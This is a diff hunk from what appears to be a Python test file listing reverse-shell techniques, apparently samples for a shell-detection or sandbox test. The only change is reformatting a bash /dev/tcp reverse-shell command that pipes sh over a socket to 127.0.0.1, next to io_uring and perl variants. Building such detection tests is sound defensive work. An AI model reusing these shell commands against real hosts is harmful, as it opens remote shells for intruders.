@@ -148,8 +148,7 @@ SHELLS: Final = (
     _shell("io_uring, as such", _RING + "far = socket.socket()\nring_connect(far.fileno())", RING),
     _shell(
         "/dev/tcp",
-        _SERVED
-        + "command = f'exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3 # MARK'\n"
+        _SERVED + "command = f'exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3 # MARK'\n"
         "subprocess.run(['/usr/bin/bash', '-c', command], **quiet)",
     ),
     _shell("perl", _SERVED + f"subprocess.run(['/usr/bin/perl', '-e', '{_PERL}', str(port)], **quiet)"),
